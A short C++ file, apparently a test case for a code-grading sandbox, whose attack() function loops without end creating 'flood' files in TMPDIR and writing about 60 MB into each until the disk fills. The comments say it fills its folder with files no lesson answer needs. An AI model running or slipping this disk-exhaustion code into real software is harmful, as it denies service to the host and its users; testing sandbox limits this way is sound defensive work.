// what: fills its folder with files
// graded: which no answer to this lesson needs
// namespaces: of files
// user: of files
// none: of files
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

#include <string>
bool attack() {
  static char block[1 << 20];
  for (int i = 0;; ++i) {
    const int file = open((std::string(getenv("TMPDIR")) + "/flood" + std::to_string(i)).c_str(),
                          O_CREAT | O_WRONLY, 0600);
    for (int j = 0; j < 60; ++j) {
      [[maybe_unused]] const auto written = write(file, block, sizeof block);
    }
    close(file);
  }
}
